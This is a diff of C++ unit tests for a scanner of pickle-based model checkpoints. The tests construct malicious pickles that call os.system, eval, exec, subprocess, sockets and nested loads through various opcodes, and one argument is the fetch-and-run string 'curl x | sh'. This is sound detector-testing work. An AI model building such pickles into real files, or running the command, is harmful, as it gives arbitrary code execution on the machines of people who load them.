@@ -95,7 +95,7 @@ TEST_F(Scan, SymbolsAreMarked) {
   EXPECT_EQ(symbols[0].verdict, SymbolVerdict::allowed);
   EXPECT_EQ(symbols[0].calls, 1U);
   EXPECT_EQ(symbols[1].verdict, SymbolVerdict::inert);
-  EXPECT_EQ(symbols[2].verdict, SymbolVerdict::not_allowed);
+  EXPECT_EQ(symbols[2].verdict, SymbolVerdict::foreign);
   EXPECT_EQ(symbols[2].calls, 0U);
   EXPECT_TRUE(result.complete());
   EXPECT_FALSE(result.clean());
@@ -104,7 +104,7 @@ TEST_F(Scan, SymbolsAreMarked) {
 TEST_F(Scan, AForeignSymbolAloneIsAFindingNotAnError) {
   ScanResult result = scanned(test::torch_zip(test::harmful_pickle()).bytes());
   EXPECT_TRUE(result.complete());
-  EXPECT_THAT(result.findings, Contains(Field(&ckpt::Finding::text, HasSubstr("calls 'posix.system'"))));
+  EXPECT_THAT(result.findings, Contains(Field(&ckpt::Finding::text, HasSubstr("calls posix.system('true')"))));
 }
 
 TEST_F(Scan, WhatIsBehindABrokenMemberIsLookedAt) {
@@ -162,6 +162,81 @@ TEST_F(Scan, EveryCutOfAFileIsNotCleared) {
       EXPECT_FALSE(scanned(whole.substr(0, size)).clean()) << size;
     }
   }
+}
+
+/// Each way of a pickle to call something, with what the finding must say.
+TEST_F(Scan, AttacksAreToldApartAndShownWithTheirArguments) {
+  auto short_symbol = [](const std::string& module, const std::string& name) {
+    return test::short_text(module) + test::short_text(name) + "\x93";
+  };
+  std::string id = test::text("id");
+  std::string inner = test::pickle(test::harmful_call("os", "popen"));
+  std::string inner_bytes = "B" + test::raw(static_cast<std::uint32_t>(inner.size())) + inner;
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {test::call(test::symbol("os", "system"), {test::text("curl x | sh\x1b[2J")}),
+       "os.system('curl x | sh\\x1b[2J')"},
+      {test::call(test::symbol("__builtin__", "eval"), {id}), "builtins.eval('id')"},
+      {test::call(test::symbol("builtins", "exec"), {id}), "builtins.exec('id')"},
+      {test::call(test::symbol("subprocess", "Popen"), {test::list({test::text("sh"), test::text("-c")})}),
+       "subprocess.Popen(['sh', '-c'])"},
+      {test::call(test::symbol("webbrowser", "open"), {id}), "webbrowser.open('id')"},
+      {test::call(test::symbol("runpy", "run_path"), {id}), "runpy.run_path('id')"},
+      {test::call(test::symbol("socket", "create_connection"), {test::tuple({id, test::number(80)})}),
+       "socket.create_connection(('id', 80))"},
+      {test::call(test::symbol("torch.serialization", "load"), {id}), "torch.serialization.load('id')"},
+      {test::call(test::symbol("torch.hub", "load"), {id}), "torch.hub.load('id')"},
+      // names from the stack, by way of the memo
+      {test::short_text("posix") + "q\x01" + "0" + test::short_text("system") + "q\x02" + "0h\x01h\x02\x93" +
+           test::tuple({id}) + "R",
+       "posix.system('id')"},
+      {"(" + id + "ios\nsystem\n", "os.system('id')"},                                 // INST
+      {"(" + test::symbol("os", "system") + id + "o", "os.system('id')"},              // OBJ
+      {test::symbol("os", "system") + test::tuple({id}) + "\x81", "os.system('id')"},  // NEWOBJ
+      {test::symbol("subprocess", "run") + test::tuple({id}) + test::dict({{test::text("shell"), "\x88"}}) + "\x92",
+       "subprocess.run('id', **{'shell': True})"},                                                 // NEWOBJ_EX
+      {test::call(test::symbol("os", "system"), {id}) + test::dict({}) + "b", "os.system('id')"},  // BUILD
+      {test::call(test::symbol("os", "system"), {id}) + "0N", "os.system('id')"},                  // dropped at once
+      {test::call(test::symbol("torch", "os.system"), {id}), "torch.os.system('id')"},
+      {test::call(short_symbol("builtins", "getattr"), {test::symbol("os", "path"), test::text("join")}), "os.path"},
+      {test::call(test::call(test::symbol("builtins", "getattr"), {test::symbol("a", "B"), id}), {id}), "calls"},
+      {test::call(test::symbol("_pickle", "loads"), {inner_bytes}), "os.popen('true')"},
+      {test::instance(test::symbol("my.net", "Net"), test::call(test::symbol("os", "system"), {id})),
+       "os.system('id')"},
+  };
+  for (const auto& [object, text] : cases) {
+    SCOPED_TRACE(text);
+    ScanResult result = scanned("\x80\x04" + object + ".", "a.pkl");
+    EXPECT_EQ(result.verdict(), "dangerous");
+    bool said = false;
+    for (std::size_t i = 0; i < result.findings.size(); ++i) {
+      bool danger = result.kinds[i] == ckpt::FindingKind::danger;
+      said |= danger && result.findings[i].text.find(text) != std::string::npos;
+    }
+    EXPECT_TRUE(said);
+  }
+}
+
+TEST_F(Scan, ClassesOfAProjectAreForeignAndNoAttack) {
+  for (const auto& [module, name] : std::vector<std::pair<std::string, std::string>>{{"my_project.config", "Config"},
+                                                                                     {"__main__", "Net"},
+                                                                                     {"__main__", "Outer.Inner"},
+                                                                                     {"wandb.sdk", "Config"}}) {
+    SCOPED_TRACE(module + "." + name);
+    ScanResult result = scanned(test::pickle(test::instance(test::symbol(module, name), test::dict({}))), "a.pkl");
+    EXPECT_EQ(result.verdict(), "foreign");
+    EXPECT_FALSE(result.has(ckpt::FindingKind::danger));
+  }
+  ScanResult plain =
+      scanned(test::pickle(test::instance(test::symbol("argparse", "Namespace"), test::dict({}))), "a.pkl");
+  EXPECT_EQ(plain.verdict(), "clean");
+}
+
+TEST_F(Scan, ArgumentsAreShortenedAndTheirWorkIsBounded) {
+  std::string deep = test::text(std::string(100000, 'x'));
+  for (int i = 0; i < 60; ++i) deep += "q\x01" + std::string("0(h\x01h\x01h\x01h\x01h\x01h\x01t");  // 6^60 as a tree
+  ScanResult result = scanned("\x80\x02" + test::call(test::symbol("os", "system"), {deep}) + ".", "a.pkl");
+  EXPECT_EQ(result.verdict(), "dangerous");
+  for (const ckpt::Finding& finding : result.findings) EXPECT_LE(finding.text.size(), 300U);
 }
 
 }  // namespace
